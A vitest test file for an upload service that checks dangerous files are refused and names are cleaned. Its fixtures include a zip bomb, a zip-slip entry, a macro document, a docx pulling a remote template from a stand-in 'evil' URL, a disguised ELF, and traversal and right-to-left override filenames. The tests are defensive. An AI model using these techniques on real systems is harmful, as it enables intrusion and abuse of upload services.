import fs, { readdir, rename, rm, symlink } from 'node:fs/promises';
import { syncBuiltinESMExports } from 'node:module';
import { join } from 'node:path';
import { strToU8, zipSync } from 'fflate';
import { afterEach, beforeAll, describe, expect, it } from 'vitest';
import { filesOperations } from '#contract/files/files.operations.ts';
import { officeOf, pdfOf, utf8, zipOfGbk } from '../support/samples.ts';
import { testApp, type TestApp, type TestPerson } from '../support/test-app.ts';
import { announce, checkUpload, offsetOf, patch, send } from '../support/tus.ts';

let app: TestApp;
let base: string;
let teacher: TestPerson;
beforeAll(async () => {
  app = await testApp();
  base = await app.listen();
  teacher = await app.person('teacher');
});

const workDir = () => join(app.settings.dataDir, 'uploads');
const usedBytes = async () => (await teacher.call(filesOperations.usage, {})).result!.usedBytes;
const judged = (uploadId: string) => checkUpload(teacher, uploadId);
const taken = async (name: string, bytes: Uint8Array) => judged(await send(base, teacher, name, bytes));

const elf = Uint8Array.from([0x7f, 0x45, 0x4c, 0x46, 2, 1, 1, ...Array<number>(57).fill(0)]);
const bomb = zipSync({ 'a.bin': new Uint8Array(60_000_000) }, { level: 9 });
const leaving = zipSync({ '../../evil.txt': strToU8('x') });
const macros = officeOf('docx', { 'word/vbaProject.bin': 'x' });
const template = 'http://schemas.openxmlformats.org/officeDocument/2006/relationships/attachedTemplate';
const fetching = officeOf('docx', {
  'word/_rels/settings.xml.rels': `<Relationships><Relationship Id="r1" Type="${template}" Target="https://example.com/evil.dotm" TargetMode="External"/></Relationships>`,
});

describe('a file that may not come in is told why, and nothing of it stays:', () => {
  it.each([
    ['a program that calls itself a PDF', '试卷.pdf', elf, { found: 'application/x-elf' }, '文件里是程序'],
    ['a truncated PDF', '讲义.pdf', pdfOf(3).subarray(0, 300), { reason: 'damagedFile' }, '不完整或已损坏'],
    ['a zip bomb', '资料.zip', bomb, { reason: 'archiveRefused' }, '压缩包内容异常'],
    ['an archive that leaves its folder', '资料.zip', leaving, { reason: 'archiveRefused' }, '路径有误'],
    ['a document with macros', '教案.docx', macros, { reason: 'macrosRefused' }, '含有宏'],
    ['a document that fetches from outside', '教案.docx', fetching, { reason: 'linksRefused' }, '读取外部内容'],
    ['nothing but blanks', '空白.txt', utf8(' \n\t '), { reason: 'emptyFile' }, '文件为空'],
  ] as const)('%s', async (_what, name, bytes, told, words) => {
    const before = await usedBytes();
    const { code, message, result } = await taken(name, bytes);
    expect([code, result]).toMatchObject([415, told]);
    expect(message).toContain(words);
    expect(await usedBytes()).toBe(before);
    expect(await readdir(workDir())).toEqual([]);
  });

  it('an empty file, before its first byte', async () => {
    const { status, text } = await announce(base, teacher, 0, { filename: '空白.md' });
    expect([status, text.trim()]).toEqual([415, '文件为空，没有可用的内容']);
  });
});

describe('a name', () => {
  it.each([
    ['../../../etc/passwd', 'passwd.txt'],
    ['C:\\Windows\\讲义.txt', '讲义.txt'],
    ['第一讲\u202etxt.exe', '第一讲txt.exe.txt'],
    ['照片.png', '照片.png.txt'],
    ['讲义.pdf', '讲义.pdf.txt'],
  ])('%j comes in as %j, and writes nowhere else', async (name, kept) => {
    const { result } = await taken(name, utf8(`正文 ${name}`));
    expect(result!.file!.name).toBe(kept);
  });

  it('in GBK inside an archive is no reason to refuse it', async () => {
    const { result } = await taken('讲义.zip', zipOfGbk());
    expect(result!.file).toMatchObject({ name: '讲义.zip', mediaType: 'application/zip' });
  });
});

describe.skipIf(process.platform !== 'linux')('a full disk', () => {
  const { statfs } = fs;
  /** What the system says of its disks; the store asks before it takes anything in. */
  const tellFree = (blocks: number | null) => {
    const told = async () => ({ bavail: blocks, blocks: 100 });
    Object.assign(fs, { statfs: blocks === null ? statfs : told });
    syncBuiltinESMExports();
  };
  afterEach(() => tellFree(null));

  it('takes nothing new in, and says so', async () => {
    tellFree(9);
    const { status, text } = await announce(base, teacher, 10, { filename: 'a.txt' });
    expect([status, text.trim()]).toEqual([413, '服务器存储空间不足，暂时不能上传']);
    tellFree(null);
    expect((await announce(base, teacher, 10, { filename: 'a.txt' })).status).toBe(201);
  });

  it('in the middle of an upload loses nothing of it: it goes on when there is room', async () => {
    const bytes = utf8('一半在满以前，一半在满以后。');
    const { id } = await announce(base, teacher, bytes.length, { filename: '讲义.txt' });
    expect((await patch(base, teacher, id, 0, bytes.subarray(0, 12))).status).toBe(204);
    const part = join(workDir(), id);
    await rename(part, `${part}.kept`);
    await symlink('/dev/full', part);
    tellFree(0);
    const refused = await patch(base, teacher, id, 0, bytes);
    expect([refused.status, (await refused.text()).trim()]).toEqual([507, '服务器存储空间不足，暂时不能上传']);
    tellFree(null);
    await rm(part);
    await rename(`${part}.kept`, part);
    expect(await offsetOf(base, teacher, id)).toBe(12);
    expect((await patch(base, teacher, id, 12, bytes.subarray(12))).status).toBe(204);
    expect((await judged(id)).result!.file).toMatchObject({ name: '讲义.txt', sizeBytes: bytes.length });
  });

  it('while the content is judged loses nothing of it: it is judged anew', async () => {
    const id = await send(base, teacher, '第一讲.srt', utf8('1\n00:00:01,000 --> 00:00:02,000\n你好\n'));
    // Captions are written anew before they are kept.
    const anew = join(workDir(), `${id}.judged.vtt`);
    await symlink('/dev/full', anew);
    expect(await judged(id)).toMatchObject({ code: 413, message: '服务器存储空间不足，暂时不能上传' });
    await rm(anew, { force: true });
    expect((await judged(id)).result!.file).toMatchObject({ name: '第一讲.vtt', mediaType: 'text/vtt' });
  });
});
